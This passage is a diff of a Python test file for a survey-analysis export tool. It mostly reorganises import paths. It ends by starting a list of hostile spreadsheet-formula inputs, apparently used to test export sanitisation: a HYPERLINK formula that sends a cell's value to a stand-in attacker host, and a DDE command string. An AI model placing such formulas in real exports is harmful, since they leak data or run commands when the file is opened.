@@ -12,15 +12,15 @@ import openpyxl
 import pandas as pd
 import pytest
 
-from analysis.dataset import load_dataset
+from analysis.dataset.dataset import load_dataset
 from analysis.export import ExportError, chart, chart_svg, table_file, table_filename
-from analysis.export.charts import chart_data
-from analysis.export.table_xlsx import HEADER_ROW, number_format
-from analysis.indicator_tables import indicator_tables
-from analysis.summaries import crosstab_table, question_table
-from analysis.tables import RELIABILITY_NOTE, Column, SummaryTable, estimate_columns
+from analysis.export.tables.as_xlsx import HEADER_ROW, number_format
+from analysis.export.tables.chart_svg import chart_data
+from analysis.indicators.sections import indicator_tables
+from analysis.tables.question_tables import crosstab_table, question_table
+from analysis.tables.summary_table import RELIABILITY_NOTE, Column, SummaryTable, estimate_columns
 from survey import ResponseStore
-from survey.audit import AuditLog
+from survey.fieldwork.audit_log import AuditLog
 from survey.simulate import main as simulate
 
 HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+cmd|' /C calc'!A0", "@SUM(1+1)",
